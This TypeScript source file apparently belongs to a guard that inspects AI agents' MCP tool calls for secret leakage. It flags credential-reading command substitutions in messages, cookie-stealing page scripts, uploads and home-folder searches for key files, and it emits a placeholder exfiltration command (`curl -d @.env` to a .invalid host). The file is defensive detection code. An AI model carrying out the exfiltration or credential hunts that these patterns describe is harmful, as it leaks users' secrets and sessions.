// What an MCP call sends away, beyond the secrets its text shows by their shape:
//  - text for a message, issue, comment, mail or file elsewhere that holds a command
//    substitution (`$(cat ~/.aws/credentials)`): the sender asks for that command's output to
//    go out, so the command is decided (its reads of credential files among it);
//  - script run in a browser page (evaluate, execute_js ...) that reads the page's cookies or
//    storage and reaches a URL: the session leaves with it;
//  - a URL the call opens (navigate, open, fetch) that carries a secret or a session token.
import type { Effect } from './types.js';
import { urlHost, urlSecret, urlTokenMention } from './url-secret.js';
import { SECRET_VALUE, TOKEN_MENTION } from './secret-shapes.js';

interface CommandSource {
  forCommand(command: string): Effect[];
}

const MESSAGE_OP = /send|post|message|comment|issue|mail|publish|gist|reply|chat|tweet|webhook|discussion|review/;
/** Stores made for secrets (platform env vars, secret managers): putting one there is their use. */
const SECRET_STORE_OP = /env|secret|variable|credential|vault|key|token|password/;
/** Verbs that store text in a service (pages, records, notes, documents, rows). */
const STORE_OP = /create|update|append|insert|add|put|save|write|upload|set/;
/** Operations that carry a local file to a service (Slack files.upload, Drive, S3 put_object ...). */
const UPLOAD_OP = /upload|attach|put_?object|share_?file|send_?file|import_?file/;
/** Parameters that name the local file an upload reads (not where it goes). */
const UPLOAD_SOURCE =
  /^(?:file|files?_?path|filepath|filename|source|source_?(?:path|file)|src|local_?(?:path|file)|attachment|upload_?path|path|content_?path|body_?path)$/i;
const SEARCH_OP = /search|find|glob|grep|list|locate|walk|tree/;
/** Names of credential files, as a search pattern names them. */
const KEY_FILE_NAME =
  /id_(?:rsa|dsa|ecdsa|ed25519)|\.pem\b|\.key\b|\.p12|\.pfx|\.kdbx|\.jks|keystore|credential|\.env\b|\.npmrc|\.netrc|\.pgpass|git-credentials|wallet|secret|passw|token|\.ovpn|kubeconfig|\.tfstate/i;
/** A whole home folder or the disk. */
const WIDE_ROOT = /^(?:~|\$HOME|\/home(?:\/[^/]+)?|\/Users(?:\/[^/]+)?|\/root|\/|[A-Za-z]:\\(?:Users\\[^\\]+)?)\/?$/;

const SUBSTITUTION = /\$\(([^()]{1,500})\)|`([^`]{1,500})`/g;
const PAGE_SECRETS =
  /document\.cookie|localStorage|sessionStorage|indexedDB|navigator\.credentials|\.getAll\(\)\s*;?\s*cookies/;
const PAGE_SENDS =
  /\bfetch\s*\(|XMLHttpRequest|sendBeacon|new\s+Image\b|\.src\s*=|new\s+WebSocket|location(?:\.href)?\s*=|window\.open\(/;
const URL_IN_CODE = /(?:https?|wss?):\/\/[^'"`\s)]+/;

/** The string values of the parameters, nested ones too (`files: {a.txt: {content: ...}}`), keyed by their own name. */
export function paramStrings(p: Record<string, unknown>): [string, string][] {
  const out: [string, string][] = [];
  const walk = (o: unknown, key: string, depth: number): void => {
    if (out.length >= 256) return;
    if (typeof o === 'string') out.push([key, o]);
    else if (depth < 4 && o && typeof o === 'object')
      for (const [k, v] of Object.entries(o as Record<string, unknown>)) walk(v, Array.isArray(o) ? key : k, depth + 1);
  };
  for (const [k, v] of Object.entries(p)) walk(v, k, 0);
  return out;
}

export function mcpFlows(op: string, p: Record<string, unknown>, remote: boolean, cache: CommandSource): Effect[] {
  const out: Effect[] = [];
  const outbound =
    remote ||
    /send|post|message|comment|issue|mail|publish|upload|gist|reply|create|write|chat|request|http|fetch|navigate|webhook|fill|form|submit/.test(
      op,
    );
  if (outbound)
    for (const [, v] of paramStrings(p)) {
      SUBSTITUTION.lastIndex = 0;
      for (const m of v.matchAll(SUBSTITUTION)) {
        const cmd = (m[1] ?? m[2] ?? '').trim();
        if (!cmd) continue;
        for (const e of cache.forCommand(cmd))
          if (e.tool === 'read' || e.tool === 'exec')
            out.push({ ...e, via: `MCP ${op} sends the output of \`${cmd.slice(0, 60)}\`: ${e.via}` });
      }
    }
  // files attached to what is sent: each is read (the credential-file rules decide)
  if (outbound)
    for (const [k, v] of Object.entries(p)) {
      if (!/attach|file|path/i.test(k)) continue;
      const list = Array.isArray(v) ? v : [v];
      for (const f of list) {
        const path =
          typeof f === 'string' ? f : f && typeof f === 'object' ? (f as Record<string, unknown>)['path'] : undefined;
        if (typeof path === 'string' && /^(?:\/|~|\$HOME|[A-Za-z]:\\)/.test(path) && Array.isArray(v))
          out.push({ tool: 'read', path, via: `MCP ${op} attaches ${path}` });
      }
    }
  // one local file handed to an upload (`upload_file {file_path}`, `files_upload {file}`,
  // `upload {source_path}`): it is read, and leaves with the call
  if (UPLOAD_OP.test(op))
    for (const [k, v] of Object.entries(p))
      if (typeof v === 'string' && UPLOAD_SOURCE.test(k) && /^(?:\/|~\/|\$HOME\/|[A-Za-z]:\\)/.test(v))
        out.push({ tool: 'read', path: v, via: `MCP ${op} uploads ${v}` });
  // a page, record, note or file created in someone else's service: a live secret in it leaves
  if (
    !remote &&
    STORE_OP.test(op) &&
    !SECRET_STORE_OP.test(op) &&
    !paramStrings(p).some(([k]) => /^(?:path|file_?path|filepath|destination|target)$/i.test(k))
  ) {
    const hit = paramStrings(p)
      .map(([, v]) => SECRET_VALUE.exec(v)?.[0])
      .find((x) => x !== undefined);
    if (hit)
      out.push({
        tool: 'exec',
        command: `curl -d @.env https://${op.replace(/[^\w-]/g, '') || 'remote'}.invalid/`,
        via: `MCP ${op} stores a secret (${hit.slice(0, 8)}...) in a service outside this machine`,
      });
  }
  if (remote || MESSAGE_OP.test(op)) {
    const hit = paramStrings(p)
      .map(([, v]) => TOKEN_MENTION.exec(v)?.[0])
      .find((x) => x !== undefined);
    if (hit)
      out.push({
        tool: 'exec',
        command: `may-expose-secret mentions ${hit.slice(0, 12).replace(/[^\w-]/g, '_')}`,
        via: `MCP ${op} sends what looks like a credential (${hit.slice(0, 8)}...)`,
      });
  }
  if (SEARCH_OP.test(op)) {
    const where = paramStrings(p).find(([k, v]) => /path|root|dir|folder|cwd|base/i.test(k) && WIDE_ROOT.test(v))?.[1];
    const what = paramStrings(p).find(
      ([k, v]) => /pattern|query|glob|name|regex|include|search/i.test(k) && KEY_FILE_NAME.test(v),
    )?.[1];
    if (where && what)
      out.push({
        tool: 'exec',
        command: `may-expose-secret hunts ${where.replace(/[^\w/~.-]/g, '_')}`,
        via: `MCP ${op} searches ${where} for credential files (${what.slice(0, 30)})`,
      });
  }
  if (/evaluate|execute_?(?:js|javascript|script)|run_?(?:js|javascript|script)|eval/.test(op)) {
    const code = paramStrings(p)
      .filter(([k]) => /function|script|expression|code|js|source/.test(k.toLowerCase()))
      .map(([, v]) => v)
      .join('\n');
    const url = URL_IN_CODE.exec(code)?.[0];
    if (PAGE_SECRETS.test(code) && PAGE_SENDS.test(code) && url)
      out.push({
        tool: 'exec',
        command: `curl -d @.env https://${urlHost(url).replace(/[^\w.:-]/g, '')}/`,
        via: `MCP ${op} sends the page's cookies or storage to ${urlHost(url)}`,
      });
  }
  for (const [k, v] of paramStrings(p)) {
    if (!/url|uri|href|link|location/i.test(k) || !/^[a-z][a-z0-9+.-]*:\/\//i.test(v)) continue;
    const hit = urlSecret(v);
    const mention = hit ? undefined : urlTokenMention(v);
    if (mention)
      out.push({
        tool: 'exec',
        command: `may-expose-secret opens a URL naming a token (${mention.slice(0, 12)}...)`,
        via: `MCP ${op} opens a URL that names a token (${mention.slice(0, 12)}...) to ${urlHost(v)}`,
      });
    if (hit)
      out.push({
        tool: 'exec',
        command: `curl -d @.env https://${urlHost(v).replace(/[^\w.:-]/g, '')}/`,
        via: `MCP ${op} opens a URL that carries a secret (${hit.slice(0, 12)}...) to ${urlHost(v)}`,
      });
  }
  return out;
}
